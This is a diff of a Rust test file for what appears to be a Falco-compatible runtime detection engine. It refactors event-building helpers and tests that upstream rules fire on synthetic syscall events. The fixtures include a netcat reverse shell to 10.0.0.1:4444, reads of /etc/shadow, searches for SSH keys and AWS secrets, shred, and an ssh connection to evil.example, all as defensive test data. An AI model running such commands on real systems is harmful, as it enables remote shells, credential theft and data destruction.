@@ -1,11 +1,11 @@
 //! Engine tests: operators, transformers and fields on handcrafted events, and Falco's
 //! upstream stable ruleset against events that honestly satisfy its rules.
 
-use std::{borrow::Cow, collections::HashMap, net::IpAddr, sync::Arc};
+use std::{borrow::Cow, collections::HashMap, sync::Arc};
 
 use osprey_model::{
     ContainerInfo, Process,
-    event::{Arg, ArgValue, Event, EventKind, Exit, SockAddr, Syscall},
+    event::{ArgValue, EventKind, Exit},
 };
 
 use super::{
@@ -15,11 +15,11 @@ use super::{
 use crate::{
     output,
     rules::{load_files, load_sources},
+    testing::{ROOT, arg, flags, path, upstream_rules},
 };
 
 pub(crate) fn upstream_path() -> std::path::PathBuf {
-    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("../../../shared/compat/falco_rules.yaml");
+    let p = upstream_rules();
     assert!(
         p.exists(),
         "Falco's upstream stable ruleset is missing: expected it at {} (shared/compat/falco_rules.yaml beside the repository)",
@@ -28,117 +28,9 @@ pub(crate) fn upstream_path() -> std::path::PathBuf {
     p
 }
 
-pub(crate) fn proc_(pid: u32, ppid: u32, comm: &str, exe: &str, args: &[&str]) -> Arc<Process> {
-    Arc::new(Process {
-        pid,
-        ppid,
-        comm: comm.into(),
-        exe: exe.into(),
-        args: args.iter().map(|s| s.to_string()).collect(),
-        cwd: Some("/root".into()),
-        uid: 0,
-        gid: 0,
-        euid: 0,
-        start_ts: 1_000,
-        cgroup_id: 1,
-        vpid: pid,
-        loginuid: u32::MAX,
-        ..Default::default()
-    })
-}
-
-pub(crate) fn arg(name: &'static str, value: ArgValue) -> Arg {
-    Arg {
-        name: Cow::Borrowed(name),
-        value,
-    }
-}
-
-pub(crate) fn path(p: &str) -> ArgValue {
-    ArgValue::Path {
-        raw: p.into(),
-        resolved: Some(p.into()),
-    }
-}
-
-pub(crate) fn flags(raw: u64, names: &[&'static str]) -> ArgValue {
-    ArgValue::Flags {
-        raw,
-        names: names.iter().map(|n| Cow::Borrowed(*n)).collect(),
-    }
-}
-
-pub(crate) fn syscall(name: &'static str, ret: i64, args: Vec<Arg>) -> EventKind {
-    EventKind::Syscall(Syscall {
-        name: Cow::Borrowed(name),
-        nr: 0,
-        ret,
-        args,
-        truncated: false,
-        latency_ns: 100,
-    })
-}
-
-pub(crate) fn enriched(kind: EventKind, p: Arc<Process>, ancestors: Vec<Arc<Process>>) -> Enriched {
-    Enriched {
-        event: Event {
-            ts: 10_000_000_000,
-            time: 1_685_022_245_478_445_995,
-            tgid: p.pid,
-            tid: p.pid,
-            uid: p.uid,
-            gid: p.gid,
-            euid: p.euid,
-            egid: p.gid,
-            cgroup_id: p.cgroup_id,
-            pid_ns: 1,
-            mnt_ns: 1,
-            vpid: p.vpid,
-            comm: p.comm.clone(),
-            cap_effective: 0,
-            cap_permitted: 0,
-            kind,
-        },
-        process: Some(p),
-        ancestors,
-        container: None,
-    }
-}
-
-pub(crate) fn openat(p: Arc<Process>, file: &str, fl: ArgValue, ret: i64) -> Enriched {
-    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
-    enriched(
-        syscall(
-            "openat",
-            ret,
-            vec![
-                arg("dfd", ArgValue::Fd(-100)),
-                arg("filename", path(file)),
-                arg("flags", fl),
-                arg("mode", ArgValue::Mode(0)),
-            ],
-        ),
-        p,
-        vec![bash],
-    )
-}
-
-pub(crate) fn execve(p: Arc<Process>, ancestors: Vec<Arc<Process>>) -> Enriched {
-    let exe = p.exe.clone();
-    let argv = p.args.clone();
-    enriched(
-        syscall(
-            "execve",
-            0,
-            vec![
-                arg("filename", path(&exe)),
-                arg("argv", ArgValue::Argv(argv)),
-                arg("envp", ArgValue::Ptr(0)),
-            ],
-        ),
-        p,
-        ancestors,
-    )
+/// The shell the tests' commands run from.
+fn bash() -> Arc<Process> {
+    ROOT.process(10, 1, "bash", "/bin/bash", &["bash"])
 }
 
 fn rule_src(cond: &str) -> String {
@@ -162,8 +54,14 @@ fn eval(cond: &str, en: &Enriched) -> bool {
 }
 
 pub(crate) fn cat_shadow() -> Enriched {
-    let cat = proc_(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
-    openat(cat, "/etc/shadow", flags(0, &["O_RDONLY", "O_CLOEXEC"]), 3)
+    let cat = ROOT.process(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
+    ROOT.openat(
+        cat,
+        vec![bash()],
+        "/etc/shadow",
+        flags(0, &["O_RDONLY", "O_CLOEXEC"]),
+        3,
+    )
 }
 
 #[test]
@@ -253,16 +151,16 @@ fn transformers_in_conditions() {
 
 #[test]
 fn ancestors_and_process_fields() {
-    let nginx = proc_(
+    let nginx = ROOT.process(
         5,
         1,
         "nginx",
         "/usr/sbin/nginx",
         &["nginx", "-g", "daemon off;"],
     );
-    let sh = proc_(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
-    let init = proc_(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
-    let e = execve(sh, vec![nginx, init]);
+    let sh = ROOT.process(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
+    let init = ROOT.process(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
+    let e = ROOT.execve(sh, vec![nginx, init]);
     for (cond, want) in [
         ("proc.aname = nginx", true),
         ("proc.aname in (systemd)", true),
@@ -285,32 +183,14 @@ fn ancestors_and_process_fields() {
 
 #[test]
 fn network_fields_from_connect() {
-    let ssh = proc_(
+    let ssh = ROOT.process(
         30,
         10,
         "ssh",
         "/usr/bin/ssh",
         &["ssh", "-p", "443", "evil.example"],
     );
-    let e = enriched(
-        syscall(
-            "connect",
-            0,
-            vec![
-                arg("fd", ArgValue::Fd(3)),
-                arg(
-                    "uservaddr",
-                    ArgValue::SockAddr(SockAddr::Inet {
-                        ip: "203.0.113.7".parse::<IpAddr>().unwrap(),
-                        port: 443,
-                    }),
-                ),
-                arg("addrlen", ArgValue::Int(16)),
-            ],
-        ),
-        ssh,
-        vec![],
-    );
+    let e = ROOT.connect(ssh, vec![], 3, "203.0.113.7".parse().unwrap(), 443);
     for (cond, want) in [
         ("fd.typechar = 4 and fd.type = ipv4", true),
         ("fd.sip = 203.0.113.7 and fd.rip = 203.0.113.7", true),
@@ -329,10 +209,10 @@ fn network_fields_from_connect() {
 
 #[test]
 fn procexit_and_exec_events() {
-    let p = proc_(40, 1, "x", "/x", &["x"]);
-    let exit = enriched(EventKind::Exit(Exit { status: 0 }), p.clone(), vec![]);
+    let p = ROOT.process(40, 1, "x", "/x", &["x"]);
+    let exit = ROOT.event(EventKind::Exit(Exit { status: 0 }), p.clone(), vec![]);
     assert!(eval("evt.type = procexit and proc.name = x", &exit));
-    let exec = enriched(
+    let exec = ROOT.event(
         EventKind::Exec(osprey_model::event::Exec {
             filename: "/x".into(),
             args: vec!["x".into()],
@@ -503,9 +383,9 @@ fn in_container(p: &Process) -> Arc<Process> {
 #[test]
 fn upstream_rules_fire_on_matching_events() {
     let engine = upstream_engine();
-    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
-    let runc = proc_(9, 1, "runc", "/usr/bin/runc", &["runc"]);
-    let nginx = proc_(5, 1, "nginx", "/usr/sbin/nginx", &["nginx"]);
+    let bash = bash();
+    let runc = ROOT.process(9, 1, "runc", "/usr/bin/runc", &["runc"]);
+    let nginx = ROOT.process(5, 1, "nginx", "/usr/sbin/nginx", &["nginx"]);
 
     // Read sensitive file untrusted: cat /etc/shadow from a shell.
     let alerts = engine.evaluate(&cat_shadow());
@@ -555,17 +435,24 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // A trusted reader is not reported; a failed open is not a read.
-    let passwd = proc_(21, 10, "passwd", "/usr/bin/passwd", &["passwd"]);
+    let passwd = ROOT.process(21, 10, "passwd", "/usr/bin/passwd", &["passwd"]);
     assert!(
         engine
-            .evaluate(&openat(passwd, "/etc/shadow", flags(0, &["O_RDONLY"]), 3))
+            .evaluate(&ROOT.openat(
+                passwd,
+                vec![bash.clone()],
+                "/etc/shadow",
+                flags(0, &["O_RDONLY"]),
+                3
+            ))
             .is_empty()
     );
-    let cat = proc_(22, 10, "cat", "/usr/bin/cat", &["cat"]);
+    let cat = ROOT.process(22, 10, "cat", "/usr/bin/cat", &["cat"]);
     assert!(
         engine
-            .evaluate(&openat(
+            .evaluate(&ROOT.openat(
                 cat.clone(),
+                vec![bash.clone()],
                 "/etc/shadow",
                 flags(0, &["O_RDONLY"]),
                 -13
@@ -574,17 +461,18 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // Run shell untrusted: nginx spawns sh.
-    let sh = proc_(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
+    let sh = ROOT.process(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
     assert_eq!(
-        rules_hit(&engine, &execve(sh.clone(), vec![nginx.clone()])),
+        rules_hit(&engine, &ROOT.execve(sh.clone(), vec![nginx.clone()])),
         ["Run shell untrusted"]
     );
     // ... but not when bash spawns it.
-    assert!(rules_hit(&engine, &execve(sh, vec![bash.clone()])).is_empty());
+    assert!(rules_hit(&engine, &ROOT.execve(sh, vec![bash.clone()])).is_empty());
 
     // Clear Log Activities.
-    let e = openat(
+    let e = ROOT.openat(
         cat.clone(),
+        vec![bash.clone()],
         "/var/log/syslog",
         flags(0o1001, &["O_WRONLY", "O_TRUNC"]),
         4,
@@ -592,9 +480,9 @@ fn upstream_rules_fire_on_matching_events() {
     assert_eq!(rules_hit(&engine, &e), ["Clear Log Activities"]);
 
     // Directory traversal monitored file read.
-    let php = proc_(23, 5, "php-fpm", "/usr/sbin/php-fpm", &["php-fpm"]);
-    let e = enriched(
-        syscall(
+    let php = ROOT.process(23, 5, "php-fpm", "/usr/sbin/php-fpm", &["php-fpm"]);
+    let e = ROOT.event(
+        ROOT.syscall(
             "openat",
             3,
             vec![
@@ -619,7 +507,7 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // Search Private Keys or Passwords / Find AWS Credentials / Remove Bulk Data from Disk.
-    let find = proc_(
+    let find = ROOT.process(
         24,
         10,
         "find",
@@ -627,10 +515,10 @@ fn upstream_rules_fire_on_matching_events() {
         &["find", "/", "-name", "id_rsa"],
     );
     assert_eq!(
-        rules_hit(&engine, &execve(find, vec![bash.clone()])),
+        rules_hit(&engine, &ROOT.execve(find, vec![bash.clone()])),
         ["Search Private Keys or Passwords"]
     );
-    let grep = proc_(
+    let grep = ROOT.process(
         25,
         10,
         "grep",
@@ -638,37 +526,37 @@ fn upstream_rules_fire_on_matching_events() {
         &["grep", "-r", "aws_secret_access_key", "/"],
     );
     assert_eq!(
-        rules_hit(&engine, &execve(grep, vec![bash.clone()])),
+        rules_hit(&engine, &ROOT.execve(grep, vec![bash.clone()])),
         ["Find AWS Credentials"]
     );
-    let shred = proc_(26, 10, "shred", "/usr/bin/shred", &["shred", "-u", "x"]);
+    let shred = ROOT.process(26, 10, "shred", "/usr/bin/shred", &["shred", "-u", "x"]);
     assert_eq!(
-        rules_hit(&engine, &execve(shred, vec![bash.clone()])),
+        rules_hit(&engine, &ROOT.execve(shred, vec![bash.clone()])),
         ["Remove Bulk Data from Disk"]
     );
 
     // Execution from /dev/shm and fileless execution.
-    let shm = proc_(27, 10, "x", "/dev/shm/x", &["/dev/shm/x"]);
+    let shm = ROOT.process(27, 10, "x", "/dev/shm/x", &["/dev/shm/x"]);
     assert_eq!(
-        rules_hit(&engine, &execve(shm, vec![bash.clone()])),
+        rules_hit(&engine, &ROOT.execve(shm, vec![bash.clone()])),
         ["Execution from /dev/shm"]
     );
-    let memfd = proc_(28, 10, "3", "/memfd:payload (deleted)", &["payload"]);
+    let memfd = ROOT.process(28, 10, "3", "/memfd:payload (deleted)", &["payload"]);
     assert_eq!(
-        rules_hit(&engine, &execve(memfd, vec![bash.clone()])),
+        rules_hit(&engine, &ROOT.execve(memfd, vec![bash.clone()])),
         ["Fileless execution via memfd_create"]
     );
 
     // Symlink and hardlink over sensitive files.
-    let ln = proc_(
+    let ln = ROOT.process(
         29,
         10,
         "ln",
         "/usr/bin/ln",
         &["ln", "-s", "/etc/shadow", "x"],
     );
-    let e = enriched(
-        syscall(
+    let e = ROOT.event(
+        ROOT.syscall(
             "symlinkat",
             0,
             vec![
@@ -690,8 +578,8 @@ fn upstream_rules_fire_on_matching_events() {
         "{}",
         alerts[0].output
     );
-    let e = enriched(
-        syscall(
+    let e = ROOT.event(
+        ROOT.syscall(
             "linkat",
             0,
             vec![
@@ -711,10 +599,10 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // PTRACE attach and anti-debug.
-    let gdb = proc_(31, 10, "gdb", "/usr/bin/gdb", &["gdb", "-p", "1"]);
+    let gdb = ROOT.process(31, 10, "gdb", "/usr/bin/gdb", &["gdb", "-p", "1"]);
     let ptrace = |req: &'static str, raw: i64| {
-        enriched(
-            syscall(
+        ROOT.event(
+            ROOT.syscall(
                 "ptrace",
                 0,
                 vec![
@@ -744,10 +632,10 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // System user interactive: www-data runs a command under sshd.
-    let sshd = proc_(3, 1, "sshd", "/usr/sbin/sshd", &["sshd"]);
-    let mut id = (*proc_(32, 3, "id", "/usr/bin/id", &["id"])).clone();
+    let sshd = ROOT.process(3, 1, "sshd", "/usr/sbin/sshd", &["sshd"]);
+    let mut id = (*ROOT.process(32, 3, "id", "/usr/bin/id", &["id"])).clone();
     id.euid = 33;
-    let e = execve(Arc::new(id), vec![sshd]);
+    let e = ROOT.execve(Arc::new(id), vec![sshd]);
     assert_eq!(
         rules_hit(&engine, &{
             let mut e = e;
@@ -758,9 +646,9 @@ fn upstream_rules_fire_on_matching_events() {
     );
 
     // Container rules.
-    let mut csh = (*proc_(40, 9, "sh", "/bin/sh", &["sh"])).clone();
+    let mut csh = (*ROOT.process(40, 9, "sh", "/bin/sh", &["sh"])).clone();
     csh.tty = 34816;
-    let e = execve(in_container(&csh), vec![runc.clone()]);
+    let e = ROOT.execve(in_container(&csh), vec![runc.clone()]);
     assert_eq!(
         rules_hit(&engine, &{
             let mut e = e;
@@ -769,7 +657,7 @@ fn upstream_rules_fire_on_matching_events() {
         }),
         ["Terminal shell in container"]
     );
-    let nc = proc_(
+    let nc = ROOT.process(
         41,
         9,
         "nc",
@@ -777,17 +665,20 @@ fn upstream_rules_fire_on_matching_events() {
         &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
     );
     assert_eq!(
-        rules_hit(&engine, &execve(in_container(&nc), vec![runc.clone()])),
+        rules_hit(&engine, &ROOT.execve(in_container(&nc), vec![runc.clone()])),
         ["Netcat Remote Code Execution in Container"]
     );
-    let debugfs = proc_(42, 9, "debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
+    let debugfs = ROOT.process(42, 9, "debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
     assert_eq!(
-        rules_hit(&engine, &execve(in_container(&debugfs), vec![runc.clone()])),
+        rules_hit(
+            &engine,
+            &ROOT.execve(in_container(&debugfs), vec![runc.clone()])
+        ),
         ["Debugfs Launched in Privileged Container"]
     );
-    let tcpdump = proc_(43, 9, "tcpdump", "/usr/bin/tcpdump", &["tcpdump"]);
-    let e = enriched(
-        syscall(
+    let tcpdump = ROOT.process(43, 9, "tcpdump", "/usr/bin/tcpdump", &["tcpdump"]);
+    let e = ROOT.event(
+        ROOT.syscall(
             "socket",
             3,
             vec![
@@ -810,7 +701,7 @@ fn upstream_rules_fire_on_matching_events() {
         ["Packet socket created in container"]
     );
     // The same shell on the host is not "in a container".
-    let e = execve(Arc::new(csh), vec![bash]);
+    let e = ROOT.execve(Arc::new(csh), vec![bash]);
     assert!(rules_hit(&engine, &e).is_empty());
 }
 
@@ -828,8 +719,8 @@ fn replay_reads_json_lines() {
 
 #[test]
 fn thread_capabilities_are_names() {
-    let p = proc_(50, 1, "x", "/x", &["x"]);
-    let mut en = openat(p, "/etc/hosts", flags(0, &["O_RDONLY"]), 3);
+    let p = ROOT.process(50, 1, "x", "/x", &["x"]);
+    let mut en = ROOT.openat(p, vec![bash()], "/etc/hosts", flags(0, &["O_RDONLY"]), 3);
     en.event.cap_effective = (1 << 21) | 1;
     assert!(eval("thread.cap_effective contains CAP_SYS_ADMIN", &en));
     assert!(eval("thread.cap_effective icontains sys_admin", &en));
@@ -855,12 +746,12 @@ fn type_specialized_conditions_agree_with_the_rule() {
         "evt.type = val(proc.name) or evt.type = openat",
         "(evt.type = execve and proc.name = cat) or (evt.type = openat and proc.name = cat)",
     ];
-    let cat = proc_(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
-    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
+    let cat = ROOT.process(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
+    let bash = bash();
     let events = [
         cat_shadow(),
-        execve(cat.clone(), vec![bash.clone()]),
-        enriched(syscall("connect", 0, vec![]), cat, vec![bash]),
+        ROOT.execve(cat.clone(), vec![bash.clone()]),
+        ROOT.event(ROOT.syscall("connect", 0, vec![]), cat, vec![bash]),
     ];
     let svc = fields::Services {
         users: &env::NoUsers,
@@ -910,8 +801,13 @@ fn shared_checks_are_judged_once_per_event() {
         },
     );
     assert_eq!(engine.memo_slots, 1, "proc.name = cat is shared");
-    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
-    let bash_open = openat(bash, "/etc/shadow", flags(0, &["O_RDONLY"]), 3);
+    let bash_open = ROOT.openat(
+        bash(),
+        vec![bash()],
+        "/etc/shadow",
+        flags(0, &["O_RDONLY"]),
+        3,
+    );
     // Results do not leak from one event to the next.
     for _ in 0..2 {
         assert_eq!(rules_hit(&engine, &cat_shadow()), ["b"]);
